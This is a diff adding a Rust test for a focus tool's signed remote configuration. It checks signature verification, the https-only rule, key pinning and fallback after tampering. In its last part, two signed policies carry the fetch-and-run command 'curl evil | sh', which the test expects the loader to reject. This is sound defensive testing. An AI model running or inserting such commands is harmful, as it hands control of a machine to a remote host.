@@ -0,0 +1,125 @@
+//! `[remote]` base configs downloaded over HTTP and checked against their
+//! signature.
+#![cfg(feature = "remote-config")]
+
+use std::sync::{Arc, Mutex};
+
+/// Serve `files` over HTTP on a local port, 404 for anything else
+fn file_server(files: Arc<Mutex<std::collections::HashMap<String, String>>>) -> String {
+    use std::io::{BufRead, BufReader, Write};
+
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let mut request_line = String::new();
+            reader.read_line(&mut request_line).unwrap();
+            let path = request_line.split(' ').nth(1).unwrap_or("").to_string();
+            loop {
+                let mut header = String::new();
+                reader.read_line(&mut header).unwrap();
+                if header.trim().is_empty() {
+                    break;
+                }
+            }
+            let response = match files.lock().unwrap().get(&path) {
+                Some(body) => format!(
+                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{}",
+                    body.len(),
+                    body
+                ),
+                None => "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
+                    .to_string(),
+            };
+            let _ = stream.write_all(response.as_bytes());
+        }
+    });
+    url
+}
+
+#[test]
+fn remote_configs_must_be_signed() {
+    use ring::signature::{Ed25519KeyPair, KeyPair};
+    use stop_it::config::remote;
+    use stop_it::config::settings::RemoteConfig;
+
+    let hex = |bytes: &[u8]| -> String { bytes.iter().map(|b| format!("{:02x}", b)).collect() };
+    let pkcs8 = Ed25519KeyPair::generate_pkcs8(&ring::rand::SystemRandom::new()).unwrap();
+    let key = Ed25519KeyPair::from_pkcs8(pkcs8.as_ref()).unwrap();
+    let policy = "[budgets.\"reddit.com\"]\ndaily = \"15m\"\n";
+    let files = Arc::new(Mutex::new(std::collections::HashMap::from([
+        ("/focus.toml".to_string(), policy.to_string()),
+        (
+            "/focus.toml.sig".to_string(),
+            hex(key.sign(policy.as_bytes()).as_ref()),
+        ),
+    ])));
+    let url = file_server(Arc::clone(&files));
+    let remote = RemoteConfig {
+        url: Some(format!("{}/focus.toml", url)),
+        public_key: Some(hex(key.public_key().as_ref())),
+        refresh: 0, // fetch every time
+        ..RemoteConfig::default()
+    };
+    let dir = std::env::temp_dir().join(format!("stop_it-e2e-remote-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+
+    let base = remote::load_base(&remote, &dir.join("cache")).unwrap();
+    assert_eq!(base["budgets"]["reddit.com"]["daily"].as_str(), Some("15m"));
+
+    // A tampered file is refused; the last verified copy stays in use
+    files.lock().unwrap().insert(
+        "/focus.toml".to_string(),
+        "[budgets.\"reddit.com\"]\ndaily = \"8h\"\n".to_string(),
+    );
+    let base = remote::load_base(&remote, &dir.join("cache")).unwrap();
+    assert_eq!(base["budgets"]["reddit.com"]["daily"].as_str(), Some("15m"));
+    let error = remote::load_base(&remote, &dir.join("empty")).unwrap_err();
+    assert!(error.contains("signature does not match"), "{}", error);
+
+    // So does an unreachable server
+    files.lock().unwrap().clear();
+    let base = remote::load_base(&remote, &dir.join("cache")).unwrap();
+    assert_eq!(base["budgets"]["reddit.com"]["daily"].as_str(), Some("15m"));
+
+    // Nothing is fetched without a pin, or over plain http from elsewhere
+    let unpinned = RemoteConfig {
+        public_key: None,
+        ..remote.clone()
+    };
+    let error = remote::load_base(&unpinned, &dir.join("cache")).unwrap_err();
+    assert!(error.contains("pin it"), "{}", error);
+    let insecure = RemoteConfig {
+        url: Some("http://config.example.org/focus.toml".to_string()),
+        ..remote.clone()
+    };
+    let error = remote::load_base(&insecure, &dir.join("cache")).unwrap_err();
+    assert!(error.contains("only https"), "{}", error);
+
+    // Signed or not, commands the daemon would run stay local
+    for (path, policy) in [
+        (
+            "/locker.toml",
+            "[breaks]\nlock = true\nlocker = \"curl evil | sh\"\n",
+        ),
+        (
+            "/player.toml",
+            "[profile.work.sounds]\nplayer = \"curl evil | sh\"\n",
+        ),
+    ] {
+        files.lock().unwrap().extend([
+            (path.to_string(), policy.to_string()),
+            (
+                format!("{}.sig", path),
+                hex(key.sign(policy.as_bytes()).as_ref()),
+            ),
+        ]);
+        let commands = RemoteConfig {
+            url: Some(format!("{}{}", url, path)),
+            ..remote.clone()
+        };
+        let error = remote::load_base(&commands, &dir.join("commands")).unwrap_err();
+        assert!(error.contains("runs a command"), "{}", error);
+    }
+}